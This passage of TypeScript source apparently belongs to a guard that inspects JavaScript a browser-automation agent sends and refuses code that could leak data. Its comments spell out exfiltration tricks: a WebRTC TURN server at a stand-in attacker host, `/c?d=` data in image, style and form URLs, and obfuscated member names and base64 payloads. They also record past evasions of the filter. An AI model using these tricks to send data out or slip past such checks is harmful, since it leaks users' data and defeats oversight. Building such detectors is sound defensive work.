    for (const a of (/Function|constructor/.test(m[0]) ? args : args?.slice(0, 1)) ?? []) {
      const lit = lits.get(a.at);
      if (lit && lit.end === a.at + a.text.length) out.push(lit.value.replaceAll('\u0000', ' '));
    }
  }
  return out;
}

function urlsIn(text: string, out: Set<string>): void {
  for (const m of text.matchAll(absoluteUrl)) {
    if (out.size > MAX_CODE_URLS) return;
    out.add(m[0]);
  }
  for (const m of text.matchAll(hostAssigned)) {
    if (out.size > MAX_CODE_URLS) return;
    out.add(`https://${m[1]}/`);
  }
  for (const m of text.matchAll(schemeRelative)) {
    if (out.size > MAX_CODE_URLS) return;
    if (relativeHost(m[1]!)) out.add(`https://${m[1]}${m[2]}`);
  }
}

/**
 * Whether code sends a write: a request's `method` other than a read written out (`fetch(u,
 * {method: 'POST', body})`, `{method: m}`), `xhr.open('PUT', u)`, a form's method set to one, a
 * beacon (always a POST), a form submitted
 * (twenty-first pass: each URL in such code was judged as its GET, so a body of data went to a
 * host that takes only reads, or to a served link, which is browsed by GET only). Its URLs are
 * then judged as writes, and a write with no URL named (the page's own site, a relative path:
 * where is not known here) refuses the command.
 */
export function codeSends(text: string): boolean {
  const t = spelledOut(jsUnescaped(text));
  // A `method:` that is not a read written out (a method chosen at run time counts as a write).
  if (/["'`]?\bmethod["'`]?\s*:(?!\s*["'`]\s*(?:get|head|options)\s*["'`])/i.test(t)) return true;
  return /\.\s*open\s*\(\s*["'`]\s*(?:post|put|patch|delete)\b|\bsendBeacon\b|\.\s*(?:submit|requestSubmit)\s*(?:\(|\.\s*(?:call|apply|bind)\b)|\b(?:form)?method\s*=\s*(?:["'`]\s*)?(?:post|put|patch|delete)\b|\bsetAttribute\s*\(\s*["'`](?:form)?method["'`]\s*,\s*["'`]\s*(?:post|put|patch|delete)\b/i.test(t) ||
    // Twenty-fourth pass: a form's action set (its method the page's, not known here) is a write.
    /\.\s*(?:form)?action\s*=(?!=)|\[\s*["'`](?:form)?action["'`]\s*\]\s*=(?!=)|\bsetAttribute\s*\(\s*["'`](?:form)?action["'`]/i.test(t);
}

/**
 * Whether code opens a WebRTC connection (twenty-second pass): `new RTCPeerConnection({iceServers:
 * [{urls: 'turn:evil.example', username: '<data>'}]})` has the browser reach a STUN or TURN server
 * over UDP, the username and the server's name carrying data, and a remote candidate
 * (`addIceCandidate`, an SDP's `a=candidate`) any address and port with the ICE username the
 * agent chose: none of it is a URL the browse rules decide. Browser automation has no use for it.
 */
export function opensWebRtc(text: string): boolean {
  return /RTCPeerConnection|RTCIceCandidate|RTCIceTransport|iceServers|\b(?:stuns?|turns?):[\w-]*[.:[]|a=candidate|addIceCandidate/i.test(jsUnescaped(text));
}

/**
 * Code the text decodes before it runs it (`eval(atob('…'))`, `Function(decodeURIComponent('…'))`):
 * its base64 literals that decode to text, and the strings it decodes, at most MAX_BASE64 of them.
 * Twenty-first pass: what `computedLoad` and `codeSends` read was missed inside such code.
 */
export function decodedCode(text: string): string[] {
  const out: string[] = [];
  for (const m of jsUnescaped(text).matchAll(base64Literal)) {
    if (out.length >= MAX_BASE64) break;
    const plain = Buffer.from(m[1]!.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('latin1');
    if (/^[\t\n\r\x20-\x7e]*$/.test(plain) && /[(=]/.test(plain)) out.push(plain);
  }
  for (const v of assembled(text).strings) if (out.length < MAX_BASE64 && /[(=]/.test(v)) out.push(v);
  return out;
}

/**
 * The URLs code or markup names, as written (a scheme's `ws` kept: the caller judges it as its
 * http twin), at most MAX_CODE_URLS + 1 (the caller refuses a text naming more).
 */
export function codeUrls(text: string): string[] {
  const out = new Set<string>();
  // The readings a browser's parsers give the text: as written, escapes undone, then references
  // decoded; tabs and line breaks dropped (URL parsers drop them inside a URL).
  const escaped = jsUnescaped(text);
  const built = assembled(text);
  // A host made at run time: returned as the bare scheme it follows, which does not parse, so the
  // caller refuses the command.
  if (built.runtimeHost) out.add('https://');
  const views = new Set([text, escaped, referencesDecoded(escaped), ...built.strings.map((v) => `"${v}"`)]);
  // CSS's escapes undone too: a style sheet's, or one a script writes out (twenty-second pass). Only
  // a hex escape can hide what the other readings find (an escaped letter or slash, a line break,
  // reads alike in JavaScript), and one that hides a URL writes a letter of a scheme, `:`, `/` or
  // `\` (an escaped letter of a host leaves a URL whose host is cut short, refused): the readings
  // are made only then (they cost a third more on Playwright's 330 KB injected script).
  if (cssHexEscape.test(text)) for (const v of [cssUnescaped(text), cssUnescaped(escaped)]) views.add(v);
  for (const v of [...views]) views.add(v.replace(/[\t\n\r]/g, ''));
  for (const v of views) urlsIn(v, out);
  let decoded = 0;
  for (const m of escaped.matchAll(base64Literal)) {
    if (++decoded > MAX_BASE64 || out.size > MAX_CODE_URLS) break;
    const plain = Buffer.from(m[1]!.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('latin1');
    if (/(?:https?|wss?):|[\\/]{2}/i.test(plain)) urlsIn(`"${plain}`, out);
  }
  return [...out];
}

/**
 * Whether a URL the page is given is resolved against the page: not empty, no fragment alone, no
 * scheme, no `//host` of its own (as URL parsers read it: tabs and line breaks dropped, blanks and
 * controls before it too). A page reached by a served link is taken by that exact URL only, and
 * which page a target shows is not known here (a click may have taken it anywhere): such a URL's
 * host is the page's, the attacker's on a page it served, and what follows it is the agent's
 * choice (twenty-second pass: `<img src="/c?d=<data>">` went where `fetch('/c?d=' + d)` was
 * refused).
 */
export function relativeUrl(value: string): boolean {
  let v = value.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '');
  let end = v.length;
  while (end > 0 && v.charCodeAt(end - 1) <= 0x20) end--; // (a pattern anchored at the end is quadratic)
  v = v.slice(0, end);
  if (v === '' || v.startsWith('#') || /^[a-z][a-z0-9+.-]*:/i.test(v)) return false;
  const host = /^[\\/]{2}([^\\/?#]+)/.exec(v);
  return !(host && relativeHost(host[1]!));
}

/** Attributes whose value is a URL the page loads (or goes to, or posts to). */
export const URL_ATTRIBUTES: ReadonlySet<string> = new Set(['src', 'srcset', 'imagesrcset', 'href', 'xlink:href', 'action', 'formaction', 'poster', 'data', 'background', 'ping', 'cite', 'longdesc', 'manifest', 'icon', 'codebase', 'archive', 'lowsrc', 'dynsrc']);

/** The URLs an attribute's value holds: blank-parted for `ping` and `archive`, comma-parted for the others (`srcset`'s candidates), each up to its first blank. */
export function attributeUrls(name: string, value: string): string[] {
  const parts = name === 'ping' || name === 'archive' ? value.split(/[\x00-\x20]+/) : value.split(',');
  return parts.map((part) => part.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '').split(/[\x01-\x20]/)[0]!);
}

/**
 * Whether code writes markup the page parses with a URL relative to it in a string it writes out
 * (`el.innerHTML = '<img src=/c?d=…>'`, `insertAdjacentHTML`, `document.write`, a template whose
 * substitution stands in a URL attribute, a literal ending inside one, `'<img src="' + u`), as
 * `computedLoad` refuses `img.src = '/c?d=' + d` (twenty-second pass).
 */
export function codeMarkupRelative(code: string): boolean {
  if (!code.includes('<')) return false;
  const computed = (v: string): boolean => {
    const cut = v.indexOf('\u0000');
    return cut >= 0 && !/^\s*(?:[a-z][a-z0-9+.-]*:|[\\/]{2}[^\\/?#\s\u0000]+[\\/?#])/i.test(v.slice(0, cut));
  };
  // Each literal, and each run of literal pieces joined (twenty-fifth pass: `'<im' + 'g src=/c?d=' + d`).
  for (const value of [...literals(code).map((l) => l.value), ...assembled(code).strings]) {
    if (!/<[a-zA-Z]/.test(value)) continue;
    // A literal ending inside a tag's URL attribute: what follows it is computed.
    const tail = value.slice(value.lastIndexOf('<'));
    if (!tail.includes('>') && /\s(?:src|srcset|imagesrcset|href|xlink:href|action|formaction|poster|data|background|ping)\s*=\s*["']?$/i.test(tail)) return true;
    // A tag left open at its end is closed by what the code adds at run time (twenty-fifth pass:
    // `'<img src=/c?d=' + d + '>'`, a refresh's `content="0;url=/c?d=' + d + '">'` went on).
    const parts = markupParts(closedTag(value));
    if (parts.more) return true;
    for (const [name, value] of parts.attributes) {
      // (What the code adds is read as a character no URL parser strips, U+E000: twenty-fifth pass,
      // `` `<img src="${u}">` `` was an empty `src`, its leading U+0000 stripped as a control.)
      if (name === 'style' ? computed(value) || styleLoadsRelative(value.replaceAll('\u0000', '\ue000')) : URL_ATTRIBUTES.has(name) && attributeUrls(name, value.replaceAll('\u0000', '\ue000')).some((u) => computed(u.replaceAll('\ue000', '\u0000')) || relativeUrl(u))) return true;
    }
    if (parts.styles.some((css) => styleLoadsRelative(css.replaceAll('\u0000', '\ue000'))) || parts.refreshes.some((u) => computed(u) || relativeUrl(u))) return true;
  }
  return false;
}

/**
 * Whether a style sheet (or a style attribute, a `<style>` element's text) loads a URL relative to
 * the page: `url(…)`, `src(…)`, `@import "…"`, an `image-set()` candidate, CSS escapes undone
 * (`u\72l(/c?d=…)`). Past 1,000 such loads it is not decided piecemeal.
 */
export function styleLoadsRelative(css: string): boolean {
  const t = cssUnescaped(css);
  if (!/url\(|src\(|@import|image-set\(/i.test(t)) return false;
  const values: string[] = [];
  for (const m of t.matchAll(/\b(?:url|src)\(\s*(?:(["'])((?:(?!\1)[^\n])*)|([^)\s"']*))/gi)) values.push(m[2] ?? m[3] ?? '');
  for (const m of t.matchAll(/@import\s*(["'])((?:(?!\1)[^\n])*)/gi)) values.push(m[2]!);
  for (const m of t.matchAll(/image-set\(([^)]{0,4000})/gi)) for (const q of m[1]!.matchAll(/(["'])((?:(?!\1)[^\n])*)\1/g)) values.push(q[2]!);
  return values.length > 1000 || values.some(relativeUrl);
}

/**
 * Whether code gives the page a style naming a URL relative to it in a string it writes out
 * (`el.style.background = 'url(/c?d=…)'`, `sheet.insertRule('@import "/c?d=…"')`): each literal
 * read as a style sheet. A style whose URL the code computes (`'url(' + u + ')'`) is not read here
 * (Playwright's own CSS tokenizer writes `'url("' + escapeString(v) + '")'`).
 */
export function codeStylesRelative(code: string): boolean {
  // Each literal, and each run of literal pieces joined (twenty-fifth pass: `'background:u' + 'rl(/c?d=' + d`).
  const joined = /['"`]\s*(?:\+|\.\s*concat\s*\()/.test(code) ? assembled(code).strings : [];
  if (!/url|src|@import|image-set/i.test(code) && !joined.length) return false;
  return [...literals(code).map((l) => l.value), ...joined].some((v) => /url\(|src\(|@import|image-set\(/i.test(v) && styleLoadsRelative(v.replaceAll('\u0000', '\ue000')));
}

/**
 * Markup whose last tag is left open, closed as the code's run-time value would close it: U+0000
 * (what the code adds, computed), the open attribute quote, `>`.
 */
function closedTag(v: string): string {
  const lt = v.lastIndexOf('<');
  if (lt < 0 || v.indexOf('>', lt) >= 0) return v;
  let quote = '';
  for (let i = lt + 1; i < v.length && i < lt + 20_000; i++) {
    const c = v[i]!;
    if (quote) {
      if (c === quote) quote = '';
    } else if ((c === '"' || c === "'") && /=[\t\n\f\r ]*$/.test(v.slice(Math.max(lt, i - 8), i))) quote = c;
  }
  return `${v}\u0000${quote}>`;
}

/**
 * Markup as the browser's parser reads it: each attribute (name, decoded value) and the text of
 * the whole (attribute values, text, inline scripts and styles), for codeUrls; the text of each
 * `<style>` element and the URL of each `<meta http-equiv="refresh">` (a style sheet and a
 * navigation: twenty-second pass); `more` when it holds more attributes than are returned (1,000).
 */
export function markupParts(html: string): { attributes: Array<[string, string]>; text: string; styles: string[]; refreshes: string[]; more: boolean } {
  const attributes: Array<[string, string]> = [];
  const texts: string[] = [];
  const styles: string[] = [];
  const refreshes: string[] = [];
  let more = false;
  let inStyle = 0;
  const p = new Parser({
    onattribute: (name, value) => {
      if (attributes.length < 1000) attributes.push([name, value]);
      else more = true;
      texts.push(`"${value}"`);
    },
    onopentag: (name, attribs) => {
      if (name === 'style' && inStyle++ === 0) styles.push('');
      // `content="0; url=…"` (also without `url=`, quoted or not), as the refresh is parsed.
      if (name === 'meta' && /^\s*refresh\s*$/i.test(attribs['http-equiv'] ?? '') && refreshes.length < 64) {
        const c = (attribs.content ?? '').trim();
        let url = c.slice(/^[\d.]*\s*(?:[;,]\s*)?(?:url\s*=\s*)?/i.exec(c)![0].length);
        if (/^['"]/.test(url)) url = url.slice(1, url.endsWith(url[0]!) && url.length > 1 ? -1 : undefined);
        refreshes.push(url);
      }
    },
    onclosetag: (name) => void (name === 'style' && inStyle > 0 && inStyle--),
    ontext: (text) => {
      texts.push(text);
      if (inStyle > 0) styles[styles.length - 1] += text;
    },
  }, { decodeEntities: true, lowerCaseAttributeNames: true, lowerCaseTags: true });
  // (In slices, the outer elements of deep nesting forgotten: nothing here reads the nesting, and
  // 80,000 nested `<div>`s written whole held the event loop 1.5 s: describe/markup-slices.ts.)
  writeForgetting(p, html);
  return { attributes, text: texts.join('\n'), styles, refreshes, more };
}

/**
 * Code without the `//# sourceURL=…` (or `sourceMappingURL`) line a tool appends to name a script
 * in stack traces (twenty-third pass: Puppeteer's `//# sourceURL=pptr:$eval;file%3A…` read as
 * `eval` named outside a call, so every `$eval` and `$$eval` was refused). Only a last line of one
 * token that cannot end a string or template, so no code hides behind one.
 */
export function withoutSourcePragma(code: string): string {
  return code.replace(/\n[ \t]*\/\/[#@][ \t]*source(?:Mapping)?URL=[^\s`'"\\]*\s*$/, '');
}

/** A parameter list's simple names, in order (`undefined` for a pattern, a default or a rest). */
function parameterNames(list: string): Array<string | undefined> {
  return list.trim() === '' ? [] : list.split(',').map((p) => (/^\s*([A-Za-z_$][\w$]*)\s*$/.exec(p)?.[1]));
}

/**
 * A function's text with each member of the global object named at run time by its parameters'
 * values, given in the same command, written as the member it is: `globalThis[prefix + name]` is
 * `globalThis.puppeteer_hello` when `callFunctionOn` gives `name` and `prefix` (twenty-third
 * pass: Puppeteer's `addPageBinding`, behind every `exposeFunction` and ARIA query, was refused as a
 * global's member named at run time; so read, `globalThis[k]` with `k` given as `'fetch'` is
 * `globalThis.fetch` and refused as a sink named outside a call). A parameter the body declares or
 * assigns again keeps its name (its value there is not the one given). Also for a function called
 * at once with literal arguments (`(function f(a, b) {…})("x", "y")`, as Puppeteer evaluates it).
 */
export function boundGlobals(fn: string, args?: unknown): string {
  let values: unknown[] | undefined = Array.isArray(args) ? args.map((a) => (a && typeof a === 'object' ? (a as { value?: unknown }).value : undefined)) : undefined;
  let text = fn;
  let offset = 0;
  if (!values) {
    // `(function (a, b) {…})("x", 1)`: the arguments as JSON values.
    const call = /\)\s*\((\s*(?:"(?:[^"\\\n]|\\.){0,200}"|-?\d{1,16}(?:\.\d{1,16})?|true|false|null)(?:\s*,\s*(?:"(?:[^"\\\n]|\\.){0,200}"|-?\d{1,16}(?:\.\d{1,16})?|true|false|null)){0,15}\s*)\)\s*(?:;\s*)?$/.exec(fn);
    if (!call || !/^\s*\(/.test(fn)) return fn;
    try {
      values = JSON.parse(`[${call[1]!}]`) as unknown[];
    } catch {
      return fn;
    }
    offset = fn.indexOf('(') + 1;
    text = fn.slice(offset, call.index);
  }
  const head = /^\s*(?:async\b\s*)?(?:function(?:\s*\*)?(?:\s+[\w$]+)?\s*\(([^()]*)\)|\(([^()]*)\)\s*=>|([A-Za-z_$][\w$]*)\s*=>)/.exec(text);
  if (!head) return fn;
  const names = parameterNames(head[1] ?? head[2] ?? head[3] ?? '');
  const body = text.slice(head[0].length);
  // A destructuring assignment (`[k] = ['fetch']`), a member of `arguments` (which a sloppy
  // function's parameters alias) or a `for (k of …)` may give a parameter another value unseen:
  // nothing is bound then.
  if (/[\]}]\s*=(?![=>])|\barguments\b|\bfor\s*\(\s*[A-Za-z_$][\w$]*\s+(?:of|in)\b/.test(body)) return fn;
  // Names the body declares or assigns again: a declaration (destructured names too), an inner
  // function's parameter, `n = …`, `n += …`, `n++`.
  const again = new Set<string>();
  const word = /[A-Za-z_$][\w$]*/g;
  for (const m of body.matchAll(/(?<![.\w$])([A-Za-z_$][\w$]*)\s*(?:[-+*/%&|^]|\*\*|<<|>>>?|\?\?|&&|\|\|)?=(?![=>])|(?<![.\w$])([A-Za-z_$][\w$]*)\s*(?:\+\+|--)|(?:\+\+|--)\s*([A-Za-z_$][\w$]*)|\b(?:let|const|var|function|class)\s+([A-Za-z_$][\w$]*)|\b(?:let|const|var)\s*([{[][^=;]{0,400})|(?<![.\w$])([A-Za-z_$][\w$]*)\s*=>|\(([^()]{0,400})\)\s*(?:=>|\{)/g)) {
    for (const g of [m[1], m[2], m[3], m[4], m[6]]) if (g) again.add(g);
    if (m[5]) for (const w of m[5].matchAll(word)) again.add(w[0]);
    if (m[7] !== undefined) {
      for (const p of m[7].split(',')) {
        const simple = /^\s*(?:\.\.\.\s*)?([A-Za-z_$][\w$]*)\s*(?:=|$)/.exec(p);
        if (simple) again.add(simple[1]!);
        else if (/^\s*(?:\.\.\.\s*)?[{[]/.test(p)) for (const w of p.matchAll(word)) again.add(w[0]);
      }
    }
  }
  // An inner parameter list holding parentheses itself (`(x = f(), name) => …`): every name in any
  // list before `=>` or a body's `{`, but a statement's condition (`if (globalThis[name]) {`).
  let lists = 0;
  for (const m of body.matchAll(/\)\s*(?:=>|\{)/g)) {
    if (++lists > 2000) return fn;
    let depth = 0;
    let at = m.index!;
    for (let steps = 0; at >= 0 && steps < 2000; at--, steps++) {
      const c = body[at];
      if (c === ')') depth++;
      else if (c === '(' && --depth === 0) break;
    }
    if (at < 0 || depth !== 0) return fn;
    if (/\b(?:if|while|switch|with)\s*$/.test(body.slice(Math.max(0, at - 12), at))) continue;
    for (const w of body.slice(at + 1, m.index!).matchAll(/(?<![.\w$])[A-Za-z_$][\w$]*/g)) again.add(w[0]);
  }
  const bound = new Map<string, string>();
  names.forEach((n, i) => {
    const v = values![i];
    if (n !== undefined && (typeof v === 'string' || typeof v === 'number') && !again.has(n)) bound.set(n, String(v));
  });
  if (!bound.size) return fn;
  // A member of a global named by bound names and literals joined by `+`: written as that member
  // when the value is a name (nothing but a name's characters goes in: a string around it stays one).
  const literal = /^\s*(?:"((?:[^"\\\n]|\\.)*)"|'((?:[^'\\\n]|\\.)*)')\s*$/;
  const resolved = (inner: string): string | undefined => {
    let value = '';
    for (const part of inner.split('+')) {
      const name = part.trim();
      const lit = literal.exec(part);
      if (bound.has(name)) value += bound.get(name)!;
      else if (lit) value += jsUnescaped(lit[1] ?? lit[2] ?? '');
      else return undefined;
    }
    return /^[A-Za-z_$][\w$]{0,80}$/.test(value) ? value : undefined;
  };
  // …and a computed key of an object literal so named (`{[name](...args) {…}}`), as the key it is.
  const read = body.replace(/\b(window|globalThis|navigator|self|defaultView|frames|top|parent|opener|contentWindow|this)(\s*)\[([^\]\n]{1,200})\]/g, (whole, g: string, sp: string, inner: string) => {
    const v = resolved(inner);
    return v === undefined ? whole : `${g}${sp}.${v}`;
  }).replace(/([{,]\s*)\[([^\]\n]{1,200})\](?=\s*[(:])/g, (whole, before: string, inner: string) => {
    const v = resolved(inner);
    return v === undefined ? whole : `${before}${v}`;
  });
  const from = offset + head[0].length;
  return read === body ? fn : `${fn.slice(0, from)}${read}${fn.slice(from + body.length)}`;
}

/**
 * Why a function given with remote objects calls one of them, or undefined (twenty-third pass):
 * an object an earlier command got (`Runtime.evaluate` of `window`, `Runtime.getProperties`: the
 * objectId of `fetch` or `open`) given as `this` or an argument and called — `function (u) {
 * this(u) }`, `(f, u) => f(u)`, `f.call(0, u)`, `new F(u)`, `Reflect.apply(f, …)` — loads where its
 * arguments say through a name no reader can see; no command shows what the objectId is. Also
 * such an object stored on the global object for a later command's code (`window.x = this`).
 * Members of it called (`el.click()`, `utilityScript.evaluate(…)`) are its methods, read as such.
 */
export function callsRemoteObject(fn: string, args: unknown, hasThis: boolean): string | undefined {
  const remote = (a: unknown): boolean => !!a && typeof a === 'object' && ['objectId', 'handle', 'sharedId'].some((k) => typeof (a as Record<string, unknown>)[k] === 'string');
  const head = /^\s*(?:async\b\s*)?(?:function(?:\s*\*)?(?:\s+[\w$]+)?\s*\(([^()]*)\)|\(([^()]*)\)\s*=>|([A-Za-z_$][\w$]*)\s*=>)/.exec(fn);
  const names = new Set<string>(hasThis ? ['this'] : []);
  if (head) parameterNames(head[1] ?? head[2] ?? head[3] ?? '').forEach((n, i) => { if (n !== undefined && Array.isArray(args) && remote(args[i])) names.add(n); });
  // A name given as an argument that the function sets as a member or an attribute (`el[k] = u`,
  // `el.setAttribute(k, u)` with `k` given as `'src'`): a load where the value says.
  const loading = new Set<string>();
  if (head) parameterNames(head[1] ?? head[2] ?? head[3] ?? '').forEach((n, i) => {
    const v = Array.isArray(args) ? (args[i] as { value?: unknown } | null)?.value : undefined;
    if (n !== undefined && typeof v === 'string' && (URL_ATTRIBUTES.has(v.toLowerCase()) || /^(?:on[a-z]+|srcdoc|style|location|innerhtml|outerhtml|imagesrcset|formaction|cssText)$/i.test(v.trim()))) loading.add(n);
  });
  const body = head ? fn.slice(head[0].length) : fn;
  for (const m of body.matchAll(/\[\s*([A-Za-z_$][\w$]*)\s*\]\s*=(?!=)|\bsetAttribute(?:NS)?\s*\(\s*(?:[^,()]{0,200},\s*)?([A-Za-z_$][\w$]*)\s*,|\bsetAttributeNode(?:NS)?\b|\bcreateAttribute(?:NS)?\s*\(\s*(?:[^,()]{0,200},\s*)?([A-Za-z_$][\w$]*)\s*\)/g)) {
    const name = m[1] ?? m[2] ?? m[3];
    if (name !== undefined && loading.has(name)) return 'sets a member or attribute named by an argument that loads (src, href, an event handler): what it loads is not known here';
  }
  if (!names.size) return undefined;
  // Another name given to one (`const f = this; f(u)`), twice over at most.
  for (let round = 0; round < 2; round++) {
    for (const m of body.matchAll(/(?<![.\w$])([A-Za-z_$][\w$]*)\s*=\s*([A-Za-z_$][\w$]*)\s*(?=[;,)\n]|$)/g)) if (names.has(m[2]!)) names.add(m[1]!);
  }
  for (const m of body.matchAll(/(?<![.\w$])(new\s+)?([A-Za-z_$][\w$]*)\s*(\(|`|\.\s*(?:call|apply|bind)\b)|\bReflect\s*\.\s*(?:apply|construct)\s*\(\s*([A-Za-z_$][\w$]*)|\b(?:window|self|globalThis|top|parent|frames)\s*(?:\.\s*[\w$]+|\[[^\]\n]{1,200}\])\s*=\s*([A-Za-z_$][\w$]*)\s*(?=[;,)}\n]|$)/g)) {
    const name = m[2] ?? m[4] ?? m[5];
    if (name !== undefined && names.has(name)) return m[5] !== undefined ? 'stores an object an earlier command got on the global object for later code' : 'calls an object an earlier command got (an objectId or a handle): what it loads is not known here';
  }
  return undefined;
}

const mayHide = /\\|\/\*|(?<!:)\/\/|<!--|-->|[-+*/%&|^?<>]=|\+\+|--|[\]}]\s*=(?![=>])|\bfor\s*\(|\[\s*[^\w\s\]$]/;
/** Member names whose setting has the browser load (or go to) a URL, as `loadAssignments` reads them. */
const URL_MEMBERS = new Set(['src', 'href', 'action', 'formAction', 'poster', 'srcset', 'imageSrcset', 'ping', 'lowsrc', 'search', 'pathname', 'port', 'protocol', 'host', 'hostname', 'background', 'location']);
type JsNode = { type: string; [k: string]: unknown };
const isNode = (v: unknown): v is JsNode => !!v && typeof v === 'object' && typeof (v as { type?: unknown }).type === 'string';
/** A key written as literals only (`'s' + 'rc'`, `` `src` ``), or undefined. */
function foldedKey(n: JsNode, depth = 0): string | undefined {
  if (depth > 32) return undefined;
  if (n.type === 'Literal' && (typeof n.value === 'string' || typeof n.value === 'number' || typeof n.value === 'boolean' || n.value === null)) return String(n.value);
  // (`(0, 'src')`, `0 || 'src'`, `1 ? 'src' : 'x'`: constants a key may be folded from, twenty-fifth pass.)
  if (n.type === 'SequenceExpression' && Array.isArray(n.expressions)) {
    const last = n.expressions[n.expressions.length - 1] as unknown;
    return isNode(last) ? foldedKey(last, depth + 1) : undefined;
  }
  if ((n.type === 'LogicalExpression' || n.type === 'ConditionalExpression') && isNode(n.type === 'LogicalExpression' ? n.left : n.test)) {
    const test = n.type === 'LogicalExpression' ? n.left as JsNode : n.test as JsNode;
    const t = test.type === 'Literal' ? test.value : undefined;
    if (test.type !== 'Literal' && foldedKey(test, depth + 1) === undefined) return undefined;
    const truthy = test.type === 'Literal' ? !!t : foldedKey(test, depth + 1) !== '';
    const pick = n.type === 'ConditionalExpression' ? (truthy ? n.consequent : n.alternate)
      : n.operator === '||' ? (truthy ? test : n.right) : n.operator === '&&' ? (truthy ? n.right : test) : (t === null ? n.right : test);
    return isNode(pick) ? foldedKey(pick, depth + 1) : undefined;
  }
  if (n.type === 'TemplateLiteral' && Array.isArray(n.expressions) && Array.isArray(n.quasis)) {
    // `` `sr${'c'}` ``: each substitution folded too.
    const quasis = n.quasis as Array<{ value: { cooked?: string | null } }>;
    let out = quasis[0]?.value.cooked ?? undefined;
    for (let i = 0; out !== undefined && i < n.expressions.length; i++) {
      const e = n.expressions[i] as unknown;
      const v = isNode(e) ? foldedKey(e, depth + 1) : undefined;
      const q = quasis[i + 1]?.value.cooked;
      out = v === undefined || q === undefined || q === null ? undefined : out + v + q;
    }
    return out;
  }
  if (n.type === 'BinaryExpression' && n.operator === '+' && isNode(n.left) && isNode(n.right)) {
    const a = foldedKey(n.left, depth + 1);
    const b = a === undefined ? undefined : foldedKey(n.right, depth + 1);
    return a === undefined || b === undefined ? undefined : a + b;
  }
  return undefined;
}
/** The URL member a target names (`img.src`, `location`, `img['s' + 'rc']`), and whether its name was folded from pieces. */
function urlTarget(n: JsNode): { name: string; folded: boolean } | undefined {
  if (n.type === 'Identifier' && n.name === 'location') return { name: 'location', folded: false };
  if (n.type === 'ChainExpression' && isNode(n.expression)) return urlTarget(n.expression);
  if (n.type !== 'MemberExpression' || !isNode(n.property)) return undefined;
  const p = n.property;
  const name = !n.computed ? (p.type === 'Identifier' ? String(p.name) : undefined) : foldedKey(p);
  // (A key written as one literal, `img['src']`, is read by `spelledOut` as the member it is.)
  // (Written in brackets as the literal alone: `img['src']`, not `img[('src')]`, which `spelledOut` does not read.)
  const plain = (p.type === 'Literal' || (p.type === 'TemplateLiteral' && Array.isArray(p.expressions) && p.expressions.length === 0)) && bracketed(n, p);
  return name !== undefined && URL_MEMBERS.has(name) ? { name, folded: !!n.computed && !plain } : undefined;
}
/** The source the member expressions of one parse are read from (set by `parsing`). */
let parsedSource = '';
/** Whether a computed member's key stands alone between its brackets (blanks aside). */
function bracketed(member: JsNode, key: JsNode): boolean {
  const start = key.start as number;
  const end = key.end as number;
  return /\[[\t\n\r ]*$/.test(parsedSource.slice(Math.max(member.start as number, start - 16), start)) && /^[\t\n\r ]*\]/.test(parsedSource.slice(end, end + 16));
}
/** Whether a pattern (a destructuring target, a `for … of` head) assigns a URL member anywhere in it. */
function patternSetsUrl(n: JsNode, depth = 0): boolean {
  if (depth > 64) return true;
  if (urlTarget(n)) return true;
  switch (n.type) {
    case 'ArrayPattern': return (n.elements as unknown[]).some((e) => isNode(e) && patternSetsUrl(e, depth + 1));
    case 'ObjectPattern': return (n.properties as JsNode[]).some((q) => isNode(q.type === 'RestElement' ? q.argument : q.value) && patternSetsUrl((q.type === 'RestElement' ? q.argument : q.value) as JsNode, depth + 1));
    case 'AssignmentPattern': return isNode(n.left) && patternSetsUrl(n.left, depth + 1);
    case 'RestElement': return isNode(n.argument) && patternSetsUrl(n.argument, depth + 1);
    default: return false;
  }
}

/**
 * Code as a JavaScript parser reads it (twenty-fifth pass), for the readers above, which read its
 * text: names with their escapes undone (`img.\u0073rc = …`, `\u0066etch(…)` are `img.src` and
 * `fetch`), comments gone (a block comment between `fetch` and its `(`, or before `=`), and why it sets a URL member in a
 * way no pattern of the text reads: an operator that keeps part of the old value (`location.href
 * += '?d=' + d`, `img.src ||= …`, `??=`, `location.port++`), a destructuring or a `for … of` head
 * (`[img.src] = ['/c?d=' + d]`, `for (img.src of […])`), a member named by literal pieces
 * (`img['s' + 'rc'] = …`). Parsed by acorn (a well-kept ECMAScript parser: a hand-written
 * tokenizer would guess where a regular expression starts), as a script, then as an expression (a
 * `functionDeclaration` is an anonymous function); a text that is neither (markup, a style) is
 * read with JavaScript's escapes undone only. At most 1,000,000 nodes are walked.
 */
type Parsed = { text: string; why?: string; failed?: true };
// acorn loaded at the first code that needs parsing (every process that describes requests imports
// this module; few read a remote browser's code).
let acorn: typeof import('acorn') | undefined;
const loadAcorn = (): typeof import('acorn') => (acorn ??= createRequire(import.meta.url)('acorn') as typeof import('acorn'));
const keptParses = new Map<string, Parsed>();
export function parsedCode(code: string): Parsed {
  // Only code that may hide so is parsed (a parse of Playwright's 330 KB script costs ~30 ms): a
  // backslash, a comment, an assignment that is no plain `=`, `++`/`--`, a destructuring, a loop,
  // a member named in brackets. A large text's reading is kept (automation sends its scripts under
  // several commands, as `codeReadingOf` keeps each command's reading).
  if (!mayHide.test(code)) return { text: code };
  if (code.length < 32 * 1024) return parsing(code);
  const kept = keptParses.get(code);
  if (kept) {
    keptParses.delete(code);
    keptParses.set(code, kept);
    return kept;
  }
  const r = parsing(code);
  keptParses.set(code, r);
  if (keptParses.size > 4) keptParses.delete(keptParses.keys().next().value!);
  return r;
}
function parsing(code: string): Parsed {
  const { parse: parseJs, tokTypes } = loadAcorn();
  const tokens: Token[] = [];
  let source = code;
  const opts = { ecmaVersion: 'latest' as const, sourceType: 'script' as const, allowReturnOutsideFunction: true, allowAwaitOutsideFunction: true, allowHashBang: true, allowReserved: true, onToken: tokens };
  let ast: unknown;
  try {
    ast = parseJs(source, opts);
  } catch {
    tokens.length = 0;
    source = `(${code}\n)`;
    try {
      ast = parseJs(source, opts);
    } catch {
      return { text: jsUnescaped(code), failed: true };
    }
  }
  const out: string[] = [];
  let at = 0;
  for (const t of tokens) {
    if (t.type === tokTypes.eof) break;
    const gap = source.slice(at, t.start);
    out.push(/\S/.test(gap) ? (/[\n\r\u2028\u2029]/.test(gap) ? '\n' : ' ') : gap);
    const value = (t as Token & { value?: unknown }).value;
